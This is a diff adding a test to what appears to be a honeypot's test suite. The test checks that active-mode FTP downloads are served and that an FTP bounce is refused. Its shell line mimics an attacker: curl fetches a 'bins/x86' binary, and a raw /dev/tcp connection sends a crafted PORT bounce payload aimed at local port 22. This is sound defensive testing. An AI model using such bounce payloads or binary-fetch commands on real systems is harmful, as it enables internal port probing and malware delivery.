@@ -135,6 +135,30 @@ async def test_ftpget_tftp_curl_and_wget_get_their_files_with_destfile(
     assert sum(e.get("query") == FTP_NAME for e in hp.events(NETWORK_DNS, session=session)) >= 2
 
 
+async def test_active_mode_ftp_is_served_to_the_box_and_a_bounce_is_refused(
+    captured: Any,
+    internet: Internet,
+    file_servers: Servers,
+) -> None:
+    """curl's active mode (EPRT, then PORT): the gateway connects back to the box's own port from the server's
+    address; a PORT naming any other address (an FTP bounce) is refused and nothing is connected."""
+    hp = await captured(config(internet, file_servers))
+    bounce = "USER a\\r\\nPASS b\\r\\nPORT 127,0,0,1,0,22\\r\\nQUIT\\r\\n"
+    out, session = await shell(
+        hp,
+        f"curl -s -P - -o /tmp/a.bin ftp://{FTP_NAME}/bins/x86; echo eprt=$?; sha256sum /tmp/a.bin; "
+        f"curl -s -P - --disable-eprt -o /tmp/p.bin ftp://anonymous:x@{FTP_NAME}/bins/x86; echo port=$?; "
+        f"sha256sum /tmp/p.bin; exec 3<>/dev/tcp/{FTP_NAME}/21; printf '{bounce}' >&3; timeout 10 cat <&3",
+        timeout_s=120,
+    )
+    elf = hashlib.sha256(ELF).hexdigest()
+    assert "eprt=0" in out and "port=0" in out and out.count(elf) == 2, out
+    assert "500 Illegal PORT command." in out and "221 Goodbye." in out, out
+    downloads = [e for e in hp.events(SESSION_FILE_DOWNLOAD, session=session)]
+    assert sorted(str(e.get("destfile")) for e in downloads) == ["/tmp/a.bin", "/tmp/p.bin"], downloads
+    assert {e.get("shasum") for e in downloads} == {elf}
+
+
 async def test_busybox_clients_in_sinkhole_mode_are_refused_and_recorded(
     captured: Any,
     internet: Internet,
